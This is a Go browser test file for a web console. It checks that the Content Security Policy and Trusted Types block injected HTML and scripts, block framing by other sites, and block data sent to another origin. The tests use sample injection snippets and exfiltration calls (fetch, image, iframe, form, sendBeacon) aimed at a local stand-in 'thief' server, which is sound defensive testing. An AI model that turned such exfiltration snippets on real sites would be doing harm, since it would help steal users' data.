package console_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"

	"keepsake/infra/cloudtest/browser"
)

func TestAScriptThatGetsInGetsNothingOut(t *testing.T) {
	tab := browser.Open(t)
	s := start(t)
	var asked atomic.Int64
	thief := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked.Add(1) }))
	tab.Do(chromedp.Navigate(s.url + "/"))
	tab.Wait(`document.querySelector("#app h1") !== null`)
	for name, attack := range map[string]string{
		"text as elements":  `(() => { document.body.innerHTML = "<b>x</b>" })()`,
		"text as a script":  `(() => { const s = document.createElement("script"); s.text = "window.got = 1"; document.body.append(s) })()`,
		"a policy that may": `(() => { trustedTypes.createPolicy("x", { createHTML: (text) => text }) })()`,
		"a call elsewhere":  fmt.Sprintf(`fetch(%q, { mode: "no-cors" })`, thief.URL),
	} {
		refused := browser.Evaluate[bool](tab, `(async () => { try { await `+attack+`; return false } catch { return true } })()`)
		if !refused {
			t.Errorf("%s is not refused", name)
		}
	}
	browser.Evaluate[bool](tab, fmt.Sprintf(`(() => {
		const image = new Image(); image.src = %q;
		const link = document.createElement("link"); link.rel = "stylesheet"; link.href = %[1]q; document.head.append(link);
		const frame = document.createElement("iframe"); frame.src = %[1]q; document.body.append(frame);
		const form = document.createElement("form"); form.action = %[1]q; document.body.append(form); form.submit();
		return navigator.sendBeacon(%[1]q, "x");
	})()`, thief.URL))
	tab.Wait(`document.querySelector("iframe") !== null`)
	thief.Close() // waits for calls under way
	if n := asked.Load(); n > 0 {
		t.Errorf("another site was asked %d times", n)
	}
}

func TestAnotherSiteCannotFrameTheConsole(t *testing.T) {
	tab := browser.Open(t)
	s := start(t)
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<iframe src=%q onload="document.title = 'loaded'"></iframe>`, s.url+"/")
	}))
	t.Cleanup(site.Close)
	tab.Do(chromedp.Navigate(site.URL))
	tab.Wait(`document.title === "loaded"`)
	if problems := fmt.Sprint(tab.Problems()); !strings.Contains(problems, "frame-ancestors") {
		t.Errorf("nothing has kept it out: %s", problems)
	}
}

func TestWhoHasNoScriptIsToldTheTwoCalls(t *testing.T) {
	tab := browser.Open(t)
	s := start(t)
	tab.WithoutScripts()
	tab.Do(chromedp.Navigate(s.url + "/"))
	text := browser.Evaluate[string](tab, `document.body.innerText`)
	for _, want := range []string{"/v1/trash", ":undelete", "If-Match"} {
		if !strings.Contains(text, want) {
			t.Errorf("it does not say %s: %s", want, text)
		}
	}
}
